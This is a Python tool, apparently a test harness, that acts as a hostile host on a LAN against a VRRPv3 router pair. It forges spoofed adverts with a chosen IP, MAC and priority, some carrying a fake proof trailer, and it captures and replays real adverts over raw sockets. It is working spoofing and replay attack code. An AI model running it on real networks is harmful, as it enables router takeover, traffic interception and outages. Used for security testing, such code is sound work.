#!/usr/bin/python3
"""A hostile host on a data LAN, against the pair's adverts (VRRPv3, IP 112).

advert.py forge IFACE SRC_IP SRC_MAC VRID PRIORITY SECS
    Forged adverts every 50 ms for SECS seconds, spoofing SRC_IP / SRC_MAC:
    alternately a plain VRRPv3 advertisement and one with a 40-byte
    trailer of made-up proof. Prints {"sent": n}.
advert.py capture IFACE SECS FILE
    Records every advert seen for SECS seconds into FILE (hex frames, one a
    line). Prints {"captured": n}.
advert.py replay IFACE FILE SECS
    Sends the recorded frames again, in order, one every 50 ms, looping for
    SECS seconds. Prints {"sent": n}.
"""
import json, os, socket, sys, time

ETH_P_ALL = 0x0003


def raw(iface):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    s.bind((iface, 0))
    return s


def forge(iface, src, mac, vrid, prio, secs):
    from scapy.all import Ether, IP, Raw, checksum, sendp  # noqa

    def vrrp(trailer):
        h = bytearray([0x31, vrid, prio, 0, 0x00, 0x0A, 0, 0])
        c = checksum(bytes(h))
        h[6:8] = c.to_bytes(2, "big")
        return bytes(h) + trailer

    frames = [
        Ether(src=mac, dst="01:00:5e:00:00:12")
        / IP(src=src, dst="224.0.0.18", proto=112, ttl=255, tos=0xC0)
        / Raw(vrrp(t))
        for t in (b"", os.urandom(40))
    ]
    s = raw(iface)
    n, end = 0, time.time() + secs
    while time.time() < end:
        s.send(bytes(frames[n % 2]))
        n += 1
        time.sleep(0.05)
    print(json.dumps({"sent": n}), flush=True)


def capture(iface, secs, path):
    s = raw(iface)
    s.settimeout(0.2)
    got, end = [], time.time() + secs
    while time.time() < end:
        try:
            f, addr = s.recvfrom(2048)
        except socket.timeout:
            continue
        # Incoming IPv4 to 224.0.0.18, protocol 112.
        if addr[2] != socket.PACKET_OUTGOING and len(f) > 34 and f[12:14] == b"\x08\x00" \
                and f[23] == 112 and f[30:34] == bytes([224, 0, 0, 18]):
            got.append(f.hex())
    with open(path, "w") as o:
        o.write("\n".join(got))
    print(json.dumps({"captured": len(got)}), flush=True)


def replay(iface, path, secs):
    frames = [bytes.fromhex(x) for x in open(path).read().split()]
    s = raw(iface)
    n, end = 0, time.time() + secs
    while frames and time.time() < end:
        s.send(frames[n % len(frames)])
        n += 1
        time.sleep(0.05)
    print(json.dumps({"sent": n}), flush=True)


mode = sys.argv[1]
if mode == "forge":
    forge(sys.argv[2], sys.argv[3], sys.argv[4], int(sys.argv[5]), int(sys.argv[6]), float(sys.argv[7]))
elif mode == "capture":
    capture(sys.argv[2], float(sys.argv[3]), sys.argv[4])
elif mode == "replay":
    replay(sys.argv[2], sys.argv[3], float(sys.argv[4]))
else:
    sys.exit(__doc__)
